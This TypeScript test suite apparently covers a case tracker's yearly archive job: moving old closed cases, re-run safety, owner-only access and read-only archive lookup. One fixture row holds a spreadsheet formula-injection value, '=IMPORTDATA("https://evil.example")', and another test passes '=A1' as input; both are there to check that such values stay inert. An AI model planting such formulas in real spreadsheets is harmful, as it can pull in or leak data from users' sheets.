/**
 * The yearly archive through the built bundle: the owner's hourly run (and menu "Archive closed cases")
 * moves closed cases older than the Settings age, with their Audit log rows, to a read-only archive
 * spreadsheet of the case ID's year in the report folder; a re-run moves nothing; IDs are never reused; the
 * case sidebar opens an archived case by ID; an editor's typing cannot make the owner's job archive an open
 * case, because the job decides from each row's sealed record.
 */
import { callServerFunction, FAULTS } from '../../emulator';
import { spreadsheetDriveState } from '../../emulator/services/drive';
import { auditEntries, caseIds, nextHourlyRun } from '../security/support/record';
import {
  ARCHIVE_AFTER_DAYS,
  archiveBookIds,
  archivedIds,
  archiveMenu,
  archiveRows,
  archiveTracker,
  closeCase,
  library,
  passDays,
  YEAR,
} from '../support/archive-tracker';
import { newCase, typeSetting } from '../support/automation-tracker';
import { call, OPS, OWNER, sealRows, type Tracker } from '../support/intake-tracker';
import { docsNamed, docText, generateFromMenu, reportTracker, W47_NAME } from '../support/report-tracker';

function archivedEntries(ctx: Tracker): string[] {
  return auditEntries(ctx)
    .filter((e) => e.action === 'Archived')
    .map((e) => e.caseId);
}

describe('yearly archive', () => {
  test('the hourly run moves only closed cases older than the setting, with their audit rows, into the folder', () => {
    const { ctx, open, oldA, oldB, recent } = library();
    nextHourlyRun(ctx);
    expect(caseIds(ctx).sort()).toEqual([open, recent].sort());
    expect(archivedIds(ctx).sort()).toEqual([oldA, oldB].sort());
    const moved = archiveRows(ctx, 'Cases');
    expect(moved.map((r) => r.Status)).toEqual(['Closed', 'Closed']);
    // The archive has the Cases schema: the live tab's headers, in schema order.
    expect(Object.keys(moved[0] ?? {})).toEqual(ctx.headers.filter((h) => h !== ''));
    // Every live Audit log row of the moved cases is in the archive's log, once.
    const archivedLog = archiveRows(ctx, 'Audit log');
    const history = auditEntries(ctx).filter(
      (e) => (e.caseId === oldA || e.caseId === oldB) && e.action !== 'Archived',
    );
    expect(history.length).toBeGreaterThanOrEqual(10);
    expect(archivedLog.filter((r) => r['Case ID'] === oldA || r['Case ID'] === oldB)).toHaveLength(
      history.length,
    );
    expect(new Set(archivedLog.map((r) => r.Sequence)).size).toBe(archivedLog.length);
    expect(archivedEntries(ctx).sort()).toEqual([oldA, oldB].sort());
    const bookId = archiveBookIds(ctx).get(YEAR) as string;
    expect(ctx.ws.spreadsheets.get(bookId)?.owner).toBe(OWNER);
    expect(ctx.ws.spreadsheets.get(bookId)?.name).toBe(`Tracker - Casebook archive ${YEAR}`);
    // In the report folder, readable by the tracker's editors, changeable only by the owner.
    const book = ctx.ws.spreadsheets.get(bookId);
    expect(book && spreadsheetDriveState(book).parents).toEqual([ctx.folderId]);
    expect(ctx.ws.spreadsheets.get(bookId)?.viewers.has(OPS)).toBe(true);
    expect(ctx.ws.spreadsheets.get(bookId)?.editors.has(OPS)).toBe(false);
  });

  test('a re-run, hourly or from the menu, moves nothing twice', () => {
    const { ctx, oldA, oldB } = library();
    nextHourlyRun(ctx);
    const live = caseIds(ctx);
    const logRows = archiveRows(ctx, 'Audit log').length;
    nextHourlyRun(ctx);
    expect(archiveMenu(ctx)).toBe('0 closed case(s) moved to the yearly archive.');
    expect(caseIds(ctx)).toEqual(live);
    expect(archivedIds(ctx).sort()).toEqual([oldA, oldB].sort());
    expect(archiveRows(ctx, 'Audit log')).toHaveLength(logRows);
    expect(archivedEntries(ctx).sort()).toEqual([oldA, oldB].sort());
  });

  test('the menu item moves due cases at once; a member cannot run it', () => {
    const { ctx, oldA, oldB } = library();
    const refused = callServerFunction(ctx.ws, ctx.session, 'archiveClosedCases', []);
    expect(refused.ok ? refused.value : refused.error.message).toMatch(/Only the tracker's owner/);
    expect(archivedIds(ctx)).toEqual([]);
    expect(archiveMenu(ctx)).toBe('2 closed case(s) moved to the yearly archive.');
    expect(archivedIds(ctx).sort()).toEqual([oldA, oldB].sort());
  });

  test('an archived ID is never issued again, even when it was the highest of the year', () => {
    const ctx = archiveTracker();
    newCase(ctx);
    const highest = newCase(ctx).caseId;
    closeCase(ctx, highest);
    passDays(ctx, ARCHIVE_AFTER_DAYS + 1);
    nextHourlyRun(ctx);
    expect(archivedIds(ctx)).toEqual([highest]);
    const next = newCase(ctx).caseId;
    expect(next > highest).toBe(true);
    expect(Number(next.slice(-5))).toBe(Number(highest.slice(-5)) + 1);
  });

  test('the case sidebar opens an archived case by ID, read-only, naming its archive', () => {
    const { ctx, oldA } = library();
    nextHourlyRun(ctx);
    const live = call<{ found: boolean }>(ctx, 'getCaseView', { caseId: oldA });
    expect(live.found).toBe(false);
    const result = call<{
      found: true;
      view: {
        archived: true;
        year: number;
        spreadsheetName: string;
        url: string;
        fields: Record<string, string>;
        history: { action: string }[];
      };
    }>(ctx, 'getArchivedCase', { caseId: oldA.toLowerCase() });
    expect(result.found).toBe(true);
    expect(result.view).toMatchObject({
      caseId: oldA,
      archived: true,
      year: YEAR,
      spreadsheetName: `Tracker - Casebook archive ${YEAR}`,
    });
    expect(result.view.fields.status).toBe('Closed');
    expect(result.view.fields).not.toHaveProperty('caseRecord');
    expect(result.view.history.length).toBeGreaterThan(0);
    expect(call(ctx, 'getArchivedCase', { caseId: 'CB-2026-09999' })).toEqual({
      found: false,
      message: 'No case CB-2026-09999 in this tracker or its archive.',
    });
    expect(callServerFunction(ctx.ws, ctx.session, 'getArchivedCase', [{ caseId: '=A1' }]).ok).toBe(false);
  });

  test('a case reopened after a failed move copied it stays live, and the archive gives its copy back', () => {
    const { ctx, open, oldA, oldB, recent } = library();
    // The move copies both cases, then fails before the live rows are deleted (the first deleteRows trims
    // the new archive's tab; the second is the live tab's).
    ctx.ws.faults.failOn('Sheet.deleteRows', 2, () => FAULTS.serviceError());
    expect(() => archiveMenu(ctx)).toThrow();
    ctx.ws.faults.clear();
    expect(archivedIds(ctx).sort()).toEqual([oldA, oldB].sort());
    expect(caseIds(ctx)).toContain(oldA);
    const { version } = call<{ view: { version: string } }>(ctx, 'getCaseView', { caseId: oldA }).view;
    expect(
      call<{ ok: boolean }>(ctx, 'updateCase', { caseId: oldA, version, changes: { status: 'Reopened' } }).ok,
    ).toBe(true);
    nextHourlyRun(ctx);
    expect(caseIds(ctx).sort()).toEqual([open, oldA, recent].sort());
    expect(archivedIds(ctx)).toEqual([oldB]);
    expect(archivedEntries(ctx)).toEqual([oldB]);
    // Its history is in the live log only, not doubled in the archive's.
    expect(archiveRows(ctx, 'Audit log').filter((r) => r['Case ID'] === oldA)).toEqual([]);
    expect(archiveRows(ctx, 'Audit log').filter((r) => r['Case ID'] === oldB).length).toBeGreaterThan(0);
  });

  test('more cases than one move takes: moved in several journaled moves, the archive growing as needed', () => {
    const ctx = archiveTracker();
    const size = 230;
    // Rows the owner pasted in, then sealed by Set up tracker (their records say closed in January).
    ctx.cases.insertRowsAfter(ctx.cases.getMaxRows(), size);
    const rows = Array.from({ length: size }, (_, i) => {
      const row: unknown[] = new Array(ctx.headers.length).fill('');
      row[ctx.column('Case ID') - 1] = `CB-2026-${String(i + 1).padStart(5, '0')}`;
      row[ctx.column('Status') - 1] = 'Closed';
      row[ctx.column('Closed at') - 1] = new Date(Date.UTC(2026, 0, 5 + (i % 20)));
      row[ctx.column('Summary') - 1] = i === 7 ? '=IMPORTDATA("https://evil.example")' : `Case ${i}`;
      return row;
    });
    ctx.cases.getRange(2, 1, size, ctx.headers.length).setValues(rows);
    sealRows(ctx);
    expect(archiveMenu(ctx)).toBe(`${size} closed case(s) moved to the yearly archive.`);
    expect(caseIds(ctx)).toEqual([]);
    const archived = archivedIds(ctx);
    expect(archived).toHaveLength(size);
    expect(new Set(archived).size).toBe(size);
    expect(archivedEntries(ctx)).toHaveLength(size);
    // Text that looks like a formula stays text in the archive.
    expect(archiveRows(ctx, 'Cases').find((r) => r['Case ID'] === 'CB-2026-00008')?.Summary).toBe(
      '=IMPORTDATA("https://evil.example")',
    );
    expect(newCase(ctx).caseId).toBe(`CB-2026-${String(size + 1).padStart(5, '0')}`);
  });

  test("an editor's edit of the live tab cannot make the owner's job archive an open case", () => {
    const { ctx, open } = library();
    // The editor's typing that no trigger saw (straight into the cells): the sealed record still says open.
    const row = caseIds(ctx).indexOf(open) + 2;
    ctx.cases.getRange(row, ctx.column('Status')).setValue('Closed');
    ctx.cases.getRange(row, ctx.column('Closed at')).setValue(new Date(Date.UTC(2020, 0, 1)));
    nextHourlyRun(ctx);
    expect(caseIds(ctx)).toContain(open);
    expect(archivedIds(ctx)).not.toContain(open);
  });

  test('blank setting: nothing is archived; a bad value is reported and moves nothing', () => {
    const { ctx } = library();
    typeSetting(ctx, 'Archive closed cases after (days)', '');
    nextHourlyRun(ctx);
    expect(archiveBookIds(ctx).size).toBe(0);
    typeSetting(ctx, 'Archive closed cases after (days)', 'thirty');
    expect(archiveMenu(ctx)).toMatch(/must be a whole number of days from 1 to 3650.*"thirty"/);
    expect(archiveBookIds(ctx).size).toBe(0);
  });
});

describe('the weekly summary counts archived history', () => {
  /** The Doc's text without the generation time, which differs between two generations. */
  const docOf = (ctx: Tracker) =>
    docText(docsNamed(ctx.ws, W47_NAME)[0]!).replace(
      /Generated [^.]+ by Casebook/,
      'Generated (time) by Casebook',
    );

  test("a past week's summary is the same before and after its cases moved to the archive", () => {
    const ctx = reportTracker({ 'Archive closed cases after (days)': '1' });
    const logged = caseIds(ctx);
    expect(logged).toHaveLength(5);
    for (const caseId of logged.slice(0, 3)) closeCase(ctx, caseId);
    generateFromMenu(ctx, '2026-W47');
    const before = docOf(ctx);
    passDays(ctx, 2);
    expect(archiveMenu(ctx)).toBe('3 closed case(s) moved to the yearly archive.');
    expect(caseIds(ctx)).toEqual(logged.slice(3));
    generateFromMenu(ctx, '2026-W47');
    expect(docOf(ctx)).toBe(before);
    expect(before).toContain('Generated (time) by Casebook');
  });
});
